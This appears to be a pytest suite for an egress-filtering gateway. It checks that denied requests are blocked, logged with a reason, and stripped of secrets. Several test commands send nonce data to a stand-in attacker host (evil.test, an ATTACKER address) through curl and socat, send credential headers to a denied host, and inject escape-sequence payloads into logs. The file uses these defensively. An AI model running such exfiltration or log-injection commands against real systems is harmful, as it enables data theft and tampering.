"""What is refused: nothing of it reaches the world, one record says why, and the developer is told where he looks."""
from __future__ import annotations

import json

import pytest

from world import names

ALLOW = ["https://echo.example/", "GET,HEAD https://files.example/", "https://svc.example/public/", "dns:denied.example"]


def with_controls(command: str) -> str:
    """`command` between two requests that must work, so that silence is never mistaken for a refusal."""
    control = "curl -fsS -m 20 -o /dev/null https://echo.example/{} && echo control-{};"
    return control.format("before", "before") + command + ";" + control.format("after", "after")


def assert_refused(world, done, nonce: str, kind: str = "http") -> dict:
    """Controls worked, the world saw no trace of the nonce, and exactly one record of `kind` denies it; that record."""
    assert "control-before" in done.out and "control-after" in done.out, done
    assert world.traces(nonce) == [], done
    records = done.about(nonce, kind)
    assert len(records) == 1, done
    assert records[0]["decision"]["action"] == "deny" and records[0]["decision"]["reason"], done
    return records[0]


REFUSED = {
    "host": ("https://evil.test/{}", f"--resolve evil.test:443:{names.ATTACKER}", "https://evil.test/", "not_in_allow_list"),
    "host-resolvable": ("https://denied.example/{}", "", "https://denied.example/", "not_in_allow_list"),
    "host-plain-http": ("http://denied.example/{}", "", "http://denied.example/", "not_in_allow_list"),
    "odd-port": ("https://denied.example:8443/{}", "", "https://denied.example:8443/", "not_in_allow_list"),
    "path": ("https://svc.example/private/{}", "", "https://svc.example/", "path_not_allowed"),
    "path-lookalike": ("https://svc.example/publicity/{}", "", "https://svc.example/", "path_not_allowed"),
    "method": ("https://files.example/{}", "-X DELETE", "https://files.example/", "method_not_allowed"),
    "scheme": ("http://echo.example/{}", "", "http://echo.example/", None),
    "header": ("https://denied.example/", "-H 'X-Nonce: {}'", "https://denied.example/", "not_in_allow_list"),
    "body": ("https://denied.example/", "-d '{}'", "https://denied.example/", "not_in_allow_list"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_request_is_refused_with_an_explanation(world, gateway, nonce, case, record_property):
    url, options, hint, reason = (part and part.format(nonce) for part in REFUSED[case])
    done = gateway.run(with_controls(f"curl -sS -o body -w '%{{http_code}} %{{time_total}} ' {options} '{url}'"), ALLOW)
    host = url.split("/")[2].split(":")[0]
    body = (done.folder / "work" / "body").read_text()
    status, seconds = next(line for line in done.out.splitlines() if line.startswith("4")).split()[:2]
    assert status == "403", done
    record_property("seconds_to_refusal", seconds)
    assert float(seconds) < 1, "a refusal is immediate (the promise is 50 ms; a loaded machine gets a second)"
    assert host in body and hint in body, f"the refusal names host and the line to add: {body}"
    if case in ("header", "body"):
        assert world.traces(nonce) == [], done
        records = [r for r in done.about(host, "http") if r["decision"]["action"] == "deny"]
        assert len(records) == 1 and "control-after" in done.out, done
        record = records[0]
    else:
        record = assert_refused(world, done, nonce)
    if reason:
        assert record["decision"]["reason"] == reason and reason in body, (record, body)
    assert host in done.err and hint in done.err, "the summary at the end tells it again"


def test_dialled_address_is_only_a_hint(world, gateway, nonce):
    """A denied name at an attacker's address: no packet goes there."""
    since = world.evidence.mark()
    done = gateway.run(with_controls(f"curl -sS -o body --resolve evil.test:443:{names.ATTACKER} https://evil.test/{nonce}"),
                       ALLOW)
    assert "control-after" in done.out and world.traces(nonce) == []
    assert not [p for p in world.evidence.packets(since) if p.destination == names.ATTACKER], "no packet to the attacker"
    assert len([r for r in done.about("evil.test") if r["decision"]["action"] == "deny"]) == 1, done


def test_allowed_name_at_an_attackers_address_goes_to_the_real_one(world, gateway, nonce):
    since = world.evidence.mark()
    done = gateway.run(f"curl -fsS --connect-to ::{names.ATTACKER}: https://echo.example/{nonce}", ALLOW)
    world.settle()
    assert done.code == 0 and nonce in done.out, done
    assert not [p for p in world.evidence.packets(since) if p.destination == names.ATTACKER]


@pytest.mark.parametrize("entry", [f"{names.ORIGIN}:443", "93.184.216.0/24:443"])
@pytest.mark.parametrize("way", [f"--resolve denied.example:443:{names.ORIGIN} https://denied.example/{{}}",
                                 f"-k -H 'Host: denied.example' https://{names.ORIGIN}/{{}}"])
def test_an_address_alone_opens_no_name(world, gateway, nonce, entry, way):
    """Many names share an address: an entry for it says nothing of what is asked for there by SNI or Host."""
    done = gateway.run(with_controls(f"curl -sS -o /dev/null {way.format(nonce)}"), [*ALLOW, entry])
    assert_refused(world, done, nonce)


def test_secrets_are_in_no_record_report_or_page(world, gateway, nonce):
    """Of a request that is carried, and of one that is refused and captured in full."""
    folder = world.job_folder()
    fields = ["Authorization: Bearer", "Proxy-Authorization: Basic", "Cookie: session=", "X-Api-Key:"]
    (folder / "work" / "secrets").write_text("".join(f'header = "{field} {nonce}"\n' for field in fields))
    done = gateway.run("curl -fsS -K secrets https://echo.example/carried -o carried; curl -sS -K secrets https://denied.example/refused",
                       ALLOW, policy={"capture": {"default": "full"}}, folder=folder)
    assert nonce in str(done.requests()[0]["headers"]) and "not_in_allow_list" in done.out, done
    assert nonce not in done.out + done.err + done.report.read_text() + (folder / "gateway" / "audit.jsonl").read_text(), done
    for record in done.of_type("http"):
        assert json.dumps(record).count("[redacted]") == len(fields), record


def test_denied_name_is_refused_before_it_is_resolved(world, gateway, nonce):
    name = f"{nonce}.secret.test"
    done = gateway.run(with_controls(f"dig {name} A"), ALLOW)
    assert_refused(world, done, nonce, "dns")
    assert "status: REFUSED" in done.out or "status: NXDOMAIN" in done.out, done
    assert "EDE:" in done.out and "not_in_allow_list" in done.out, f"dig shows why: {done}"


def test_denied_name_of_a_client_is_one_failure_not_a_time_out(world, gateway, nonce):
    done = gateway.run(with_controls(f"curl -sS -w '%{{time_total}}' https://{nonce}.test/"), ALLOW)
    assert "control-after" in done.out and done.seconds < 10, done
    assert world.traces(nonce) == []
    assert {r["decision"]["action"] for r in done.about(nonce)} == {"deny"}


@pytest.mark.parametrize("target", ["denied.example:5432", "echo.example:22", f"{names.ATTACKER}:443", "[2a00::1]:443"])
def test_raw_connection_is_refused(world, gateway, nonce, target):
    done = gateway.run(with_controls(f"printf %s {nonce} | socat -t1 - TCP:{target}; echo ended $?"), ALLOW)
    assert "control-before" in done.out and "control-after" in done.out, done
    assert world.traces(nonce) == [], done
    host, port = target.rsplit(":", 1)
    records = [r for r in done.of_type("connection") if r["decision"]["action"] == "deny"]
    assert len(records) == 1 and port in str(records[0]["connection"]), done
    assert done.seconds < 15


def test_empty_allow_list_denies_everything(world, gateway, nonce):
    done = gateway.run(f"curl -sS https://{nonce}.example/; curl -sS --resolve e.test:80:{names.ORIGIN} http://e.test/{nonce};"
                       "true", [])
    assert done.code == 0 and world.traces(nonce) == [] and done.events == [], done


@pytest.mark.parametrize("options, code", [([], 0), (["--fail-on-deny"], 99)])
def test_audit_mode_refuses_nothing_and_records_what_it_would(world, gateway, nonce, options, code):
    done = gateway.run(f"curl -fsS https://denied.example/{nonce}", ["https://echo.example/"],
                       options=["--mode", "audit", *options])
    assert done.code == code and nonce in done.out, done
    decision = done.about(nonce, "http")[0]["decision"]
    assert (decision["action"], decision["would"]) == ("allow", "deny"), done


def test_untrusted_text_cannot_break_the_log(world, gateway):
    """read_audit fails on any line that is not one JSON object; the terminal gets no control characters either."""
    done = gateway.run("curl -sS 'https://denied.example/%0a%0d%1b[31mred' -H \"$(printf 'X-A: \\033[2J\\302\\205')\";"
                       "curl -sS --path-as-is \"$(printf 'https://denied.example/\\377\\302\\233')\";"
                       "dig 'a\\010{\\034type\\034b.test' +tries=1 +time=1; true", ALLOW)
    assert done.code == 0 and done.records, done
    assert "\x1b[31mred" not in done.err and "\x1b[2J" not in done.err, done
    seqs = [r["seq"] for r in done.records]
    assert seqs == sorted(set(seqs)), "records are in order, none twice"


def test_report_is_written(world, gateway):
    done = gateway.run("curl -s -o /dev/null https://echo.example/ https://denied.example/", ALLOW)
    report = json.loads(done.report.read_text())
    assert "denied.example" in json.dumps(report) and "echo.example" in json.dumps(report)
